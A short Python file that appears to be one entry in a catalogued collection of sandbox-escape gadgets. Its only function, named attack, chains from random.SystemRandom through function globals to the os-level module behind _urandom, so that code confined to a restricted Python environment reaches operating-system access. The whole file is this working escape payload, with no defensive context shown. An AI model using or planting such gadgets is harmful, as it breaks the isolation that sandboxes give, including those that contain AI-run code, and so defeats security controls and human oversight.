"""Class: module gadget. Source: own find. Escape: random's SystemRandom and seed lead to os."""

import random


def attack(model, tokenizer, address):
    return random.SystemRandom().getrandbits.__func__.__globals__["_urandom"].__self__
